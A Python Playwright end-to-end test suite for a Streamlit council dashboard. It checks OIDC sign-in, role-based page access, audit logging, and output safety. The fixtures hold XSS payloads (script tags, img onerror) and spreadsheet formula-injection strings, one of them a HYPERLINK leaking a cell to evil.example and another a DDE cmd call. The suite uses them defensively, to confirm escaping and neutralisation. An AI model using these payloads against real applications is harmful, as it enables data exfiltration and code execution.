"""Sign-in, roles and safe output as a person sees them: the real app in Chromium.

Sign-in goes through Streamlit's st.login against a real OIDC provider (oidc-provider-mock,
started here on 127.0.0.1). The app reads a secrets.toml written to a temporary folder
(`--secrets.files`), never the repo's .streamlit/.
"""

import io
import json
import secrets
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Page, expect

from cib import audit, db, navigation
from tests.e2e import harness
from tests.e2e.harness import wait_for_app
from tests.test_auth_guards import UNGUARDED_YET

pytestmark = pytest.mark.e2e

# Predefined users of the test identity provider: the button on its page shows the `sub`.
IDP_USERS = {
    "ann": {"email": "ann.analyst@council.example", "name": "Ann Analyst"},
    "vic": {"email": "vic.viewer@council.example", "name": "Vic Viewer"},
    "ada": {"email": "ada.admin@council.example", "name": "Ada Admin", "groups": ["CIB.Admin"]},
}
ROLES = """
[roles]
analyst = ["ann.analyst@council.example"]
viewer = ["@council.example"]
admin_groups = ["CIB.Admin"]
default = "none"
"""
BUTTON = "Sign in with the council account"
TEAM = '<img src=x onerror="window.__xss=1"> Team <b>Bold</b> <script>window.__xss=2</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
TIMEOUT = 30_000


@pytest.fixture(scope="module")
def idp(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real OIDC provider on 127.0.0.1 with three predefined users."""
    port = harness.free_port()
    log_path = tmp_path_factory.mktemp("idp") / "idp.log"
    args = [sys.executable, "-m", "oidc_provider_mock", "--host", "127.0.0.1", "--port", str(port)]
    for sub, claims in IDP_USERS.items():
        args += ["--user-claims", json.dumps({"sub": sub, "email_verified": True, **claims})]
    with open(log_path, "w") as log:
        proc = subprocess.Popen(args, stdout=log, stderr=subprocess.STDOUT)
        url = f"http://127.0.0.1:{port}"
        try:
            what = f"the test identity provider (see {log_path})"
            harness.wait_until_up(f"{url}/.well-known/openid-configuration", proc, what, 30)
            yield url
        finally:
            harness.stop(proc)


def write_secrets(folder: Path, idp_url: str) -> Path:
    path = folder / "secrets.toml"
    path.write_text(
        f"""
[auth]
redirect_uri = "http://127.0.0.1:{{port}}/oauth2callback"
cookie_secret = "{secrets.token_hex(32)}"

[auth.council]
button_label = "{BUTTON}"
client_id = "cib-dashboard"
client_secret = "test-client-secret"
server_metadata_url = "{idp_url}/.well-known/openid-configuration"
{ROLES}""",
        encoding="utf-8",
    )
    return path


def start_app(folder: Path, template: Path, secrets_file: Path) -> object:
    path = folder / "cib.duckdb"
    shutil.copyfile(template, path)
    return harness.app_server(
        path,
        # The provider speaks plain http on 127.0.0.1; Authlib refuses that unless told.
        extra_env={"AUTHLIB_INSECURE_TRANSPORT": "1", "CIB_USERS": str(folder / "none.toml")},
        extra_args=[f"--secrets.files={secrets_file}"],
    )


def warm_up(browser, url: str) -> None:
    """Open the entry page once in a browser, as the first visitor would.

    Until some session has run dashboard.py, Streamlit runs a pages/ file asked for by URL
    directly (its pages/-folder mode); the cold case is tested on its own below.
    """
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url)
        page.wait_for_selector("h1", timeout=TIMEOUT)
    finally:
        context.close()


@pytest.fixture(scope="module")
def signin_app(idp, tmp_path_factory, _demo_template, browser) -> Iterator[str]:
    """The app with OIDC sign-in configured, on a copy of the demo database."""
    folder = tmp_path_factory.mktemp("signin")
    with start_app(folder, _demo_template, write_secrets(folder, idp)) as url:
        warm_up(browser, url)
        yield url


@pytest.fixture(scope="module")
def cold_app(idp, tmp_path_factory, _demo_template) -> Iterator[str]:
    """The same, freshly started: nobody has opened the entry page yet."""
    folder = tmp_path_factory.mktemp("cold")
    with start_app(folder, _demo_template, write_secrets(folder, idp)) as url:
        yield url


def sign_in(page: Page, app_url: str, who: str) -> None:
    """Sign in through st.login and the test provider's page, back to the app."""
    page.goto(app_url)
    page.get_by_role("button", name=BUTTON).click(timeout=TIMEOUT)
    page.wait_for_url("**/oauth2/authorize**", timeout=TIMEOUT)
    page.get_by_role("button", name=who, exact=True).click()
    page.wait_for_url(f"{app_url}/", timeout=TIMEOUT)
    wait_for_app(page)


def sidebar(page: Page):
    return page.locator("[data-testid='stSidebar']")


def test_analyst_signs_in_with_st_login_and_lands_with_the_analyst_role(
    page, signin_app, screenshot_dir
):
    page.goto(signin_app)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible(timeout=TIMEOUT)
    expect(page.get_by_text("Performance scorecard")).to_have_count(0)
    sign_in(page, signin_app, "ann")
    expect(page.get_by_role("heading", name="Performance scorecard, Mar 2018")).to_be_visible()
    expect(sidebar(page)).to_contain_text("Signed in as Ann Analyst · Analyst")
    expect(sidebar(page).get_by_role("link", name="Upload data")).to_be_visible()
    expect(sidebar(page).get_by_role("link", name="Administration")).to_have_count(0)
    expect(page.get_by_text("Sign-in is not configured")).to_have_count(0)
    page.screenshot(path=str(screenshot_dir / "signed_in_analyst.png"))
    page.goto(f"{signin_app}/upload")  # a new session: the identity cookie signs it in
    expect(page.get_by_role("heading", name="Upload data")).to_be_visible(timeout=TIMEOUT)


def test_viewer_cannot_reach_upload_or_admin_by_url(page, signin_app, screenshot_dir):
    sign_in(page, signin_app, "vic")
    expect(sidebar(page)).to_contain_text("Signed in as Vic Viewer · Viewer")
    expect(sidebar(page).get_by_role("link", name="Upload data")).to_have_count(0)
    for path, title, who in [
        ("upload", "Upload data", "analysts and administrators"),
        ("admin", "Administration", "administrators"),
    ]:
        page.goto(f"{signin_app}/{path}")
        expect(page.get_by_text(f"{title} is for {who}.")).to_be_visible(timeout=TIMEOUT)
        expect(page.get_by_role("heading", name=title)).to_have_count(0)
        expect(page.locator("[data-testid='stFileUploader']")).to_have_count(0)
        expect(page.locator("[data-testid='stDataFrame']")).to_have_count(0)
    page.screenshot(path=str(screenshot_dir / "viewer_refused_admin.png"))


def test_admin_by_group_claim_reads_the_sign_ins_in_the_audit_trail(page, signin_app):
    sign_in(page, signin_app, "ada")
    expect(sidebar(page)).to_contain_text("Ada Admin · Administrator")
    sidebar(page).get_by_role("link", name="Administration").click()
    wait_for_app(page)
    expect(page.get_by_role("heading", name="Administration")).to_be_visible()
    trail = page.locator("[data-testid='stDataFrame']").first
    expect(trail).to_be_visible()
    # The grid draws on a canvas; its accessible table holds the text.
    expect(trail).to_contain_text("ada.admin@council.example", timeout=TIMEOUT)
    expect(trail).to_contain_text("Signed in")


def test_signing_out_asks_to_sign_in_again(page, signin_app):
    sign_in(page, signin_app, "vic")
    sidebar(page).get_by_role("button", name="Sign out").click()
    # st.logout clears the app's cookie, then ends the session at the provider too.
    page.wait_for_url("**/oauth2/end_session**", timeout=TIMEOUT)
    page.get_by_role("button", name="End session").click()
    page.wait_for_url(f"{signin_app}/**", timeout=TIMEOUT)
    page.goto(signin_app)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible(timeout=TIMEOUT)
    expect(page.get_by_text("Performance scorecard")).to_have_count(0)


@pytest.mark.parametrize(
    "spec",
    [
        pytest.param(
            s,
            id=s.path,
            marks=pytest.mark.xfail(s.path in UNGUARDED_YET, strict=True, reason="no guard"),
        )
        for s in navigation.PAGES
    ],
)
def test_a_cold_server_asks_to_sign_in_on_every_page_url(page, cold_app, spec):
    # Before any session has run dashboard.py, Streamlit serves pages/<stem>.py by itself.
    page.goto(f"{cold_app}/{Path(spec.path).stem}")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible(timeout=15_000)
    expect(page.locator("[data-testid='stMetric']")).to_have_count(0)
    expect(page.locator("[data-testid='stDataFrame']")).to_have_count(0)


# --- safe output --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def open_app(tmp_path_factory, _demo_template, browser) -> Iterator[str]:
    """No sign-in configured; a team whose name is markup, and audit rows that are formulas."""
    folder = tmp_path_factory.mktemp("unsafe")
    path = folder / "cib.duckdb"
    shutil.copyfile(_demo_template, path)
    extract = folder / "extract.csv"
    quoted = TEAM.replace('"', '""')
    extract.write_text(
        "measure_id,month,team,value\n"
        f'caseload_avg,2018-02,"{quoted}",18\ncaseload_avg,2018-03,"{quoted}",17.5\n',
        encoding="utf-8",
    )
    subprocess.run(
        [sys.executable, "-m", "cib", "load", "measures", str(extract), "--db", str(path),
         "--user", "=cmd|' /C calc'!A0"],
        check=True, cwd=harness.ROOT, capture_output=True,
    )  # fmt: skip
    con = db.connect(path)
    with db.transaction(con) as cur:  # what a failed sign-in with a crafted username leaves
        audit.record(cur, FORMULA, audit.SIGN_IN_FAILED, "@SUM(1+1)*cmd|' /C calc'!A0")
    con.close()
    with harness.app_server(
        path,
        extra_env={"CIB_USERS": str(folder / "none.toml")},
        extra_args=[f"--secrets.files={folder / 'no-secrets.toml'}"],
    ) as url:
        warm_up(browser, url)
        yield url


def pick_team(page: Page) -> None:
    page.locator("[data-testid='stSelectbox']").filter(has_text="Team").click()
    page.get_by_role("option", name=TEAM).click()
    wait_for_app(page)


def test_markup_in_a_team_name_shows_as_literal_text(page, open_app, screenshot_dir):
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{open_app}/measure?measure=caseload_avg")
    wait_for_app(page)
    expect(page.get_by_text("Sign-in is not configured")).to_be_visible()
    pick_team(page)
    main = page.locator("[data-testid='stMain']")
    expect(main.get_by_text(f"Average caseload for {TEAM} was 17.5")).to_be_visible()
    expect(main.locator("b, img[src='x'], script:has-text('__xss')")).to_have_count(0)
    assert page.evaluate("() => window.__xss") is None and not dialogs
    page.screenshot(path=str(screenshot_dir / "team_name_markup.png"))


def test_markup_in_a_team_name_shows_as_literal_text_in_charts(page, open_app):
    page.goto(f"{open_app}/measure?measure=caseload_avg")
    wait_for_app(page)
    pick_team(page)
    charts = page.locator(".js-plotly-plot")
    expect(charts.first).to_be_visible()
    assert "<b>Bold</b>" in (charts.first.locator(".gtitle").text_content() or "")
    # Every chart that names the team (the trend and SPC charts, ...) shows it literally;
    # the comparator panel's own bold council label is ours, not the file's.
    named = charts.filter(has_text="Team <b>Bold</b>")
    expect(named).not_to_have_count(0)
    expect(named.locator("tspan[style*='bold']")).to_have_count(0)


def test_downloads_neutralise_formula_cells(page, open_app, tmp_path):
    page.goto(f"{open_app}/admin")
    wait_for_app(page)
    expect(page.get_by_role("heading", name="Administration")).to_be_visible()
    with page.expect_download() as info:
        page.get_by_role("button", name="Download (CSV)").click()
    body = Path(info.value.path()).read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in body
    assert "'@SUM(1+1)" in body and "'=cmd|" in body
    for line in body.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.strip('"').startswith(("=", "+", "-", "@")), line
    with page.expect_download() as info:
        page.get_by_role("button", name="Download (Excel)").click()
    book = openpyxl.load_workbook(io.BytesIO(Path(info.value.path()).read_bytes()))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]


ACTION = '<script>window.__xss=3</script><b>Bold</b> plan <img src=x onerror="window.__xss=4">'
PLAN_PAGE = next((s for s in navigation.PAGES if s.path == "pages/plan.py"), None)


def add_plan_with_markup(path: Path) -> None:
    """One theme, recommendation and action whose texts are markup, as an upload would add."""
    import pandas as pd

    from cib import plan_store

    frames = plan_store.PlanFrames(
        themes=pd.DataFrame({"theme_id": ["T9"], "title": ["<i>Theme</i>"]}),
        recommendations=pd.DataFrame({
            "recommendation_id": ["R9"], "theme_id": ["T9"], "source": ["Inspection"],
            "source_date": ["2016-01-01"], "text": ["<b>Recommendation</b> text"],
        }),
        actions=pd.DataFrame({
            "action_id": ["A9.1"], "recommendation_id": ["R9"], "what": [ACTION],
            "who": ["<em>Owner</em>"], "how": ["=1+1"], "due_date": ["2017-01-31"],
            "measure_ids": [""],
        }),
        updates=pd.DataFrame({
            "action_id": ["A9.1"], "update_date": ["2016-06-30"], "status": ["At risk"],
            "update_text": ["<script>window.__xss=5</script> update"],
        }),
    )  # fmt: skip
    con = db.connect(path)
    with db.transaction(con) as cur:
        upload_id = db.scalar(
            cur, "load_upload_start", kind="actions", file_name="tracker.csv", sha256=None,
            user_name="test",
        )  # fmt: skip
        plan_store.load_plan(cur, frames, upload_id)
    con.close()


def check_action_text_is_literal(page: Page, app_url: str) -> None:
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{app_url}/plan?theme=T9&rec=R9&action=A9.1")
    wait_for_app(page)
    main = page.locator("[data-testid='stMain']")
    expect(main.get_by_role("heading", name=f"Action A9.1: {ACTION}")).to_be_visible()
    expect(main.locator("b, i, em, img[src='x'], script:has-text('__xss')")).to_have_count(0)
    assert page.evaluate("() => window.__xss") is None and not dialogs


@pytest.mark.skipif(PLAN_PAGE is None, reason="pages/plan.py is not in cib/navigation.PAGES yet")
def test_markup_in_an_action_shows_as_literal_text(page, tmp_path, _demo_template, browser):
    path = tmp_path / "cib.duckdb"
    shutil.copyfile(_demo_template, path)
    add_plan_with_markup(path)
    with harness.app_server(
        path,
        extra_env={"CIB_USERS": str(tmp_path / "none.toml")},
        extra_args=[f"--secrets.files={tmp_path / 'no-secrets.toml'}"],
    ) as url:
        warm_up(browser, url)
        check_action_text_is_literal(page, url)
